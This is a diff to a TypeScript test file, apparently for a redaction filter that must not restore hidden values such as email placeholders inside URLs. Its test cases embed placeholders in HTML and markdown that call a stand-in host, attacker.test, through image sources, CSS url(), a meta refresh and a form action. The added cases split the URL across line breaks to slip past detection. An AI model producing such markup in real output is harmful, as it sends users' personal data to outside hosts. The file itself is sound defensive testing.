@@ -409,6 +409,10 @@ const inUrls: [string, string][] = [
   ["a CSS url()", '<div style="background:url(https://attacker.test/?d=<EMAIL_1>)">x</div>'],
   ["a link target padded with words", `[x](<https://attacker.test/?q=${"a b c d e f g h i j k l m n ".repeat(3)}<EMAIL_1>>)`],
   ["a long path before the placeholder", `![x](https://attacker.test/${"p".repeat(90)}<EMAIL_1>)`],
+  // A quoted attribute value spans lines; a browser drops the line breaks from the URL it makes of it.
+  ["an HTML attribute value going on to the next line", '<img src="https://attacker.test/?d=\n<EMAIL_1>">'],
+  ["a meta refresh URL going on two lines later", '<meta http-equiv="refresh" content="0;url=https://attacker.test/?\n\n<EMAIL_1>">'],
+  ["a form field value on the next line", '<form action="https://attacker.test/"><input name=d value="\n<EMAIL_1>"></form>'],
 ];
 for (const [name, content] of inUrls) {
   add("chat", false, "restore", `a placeholder in ${name}`, chat.whole({ content }), [EMAIL, CARD_DIGITS], { restoring, marker: false });
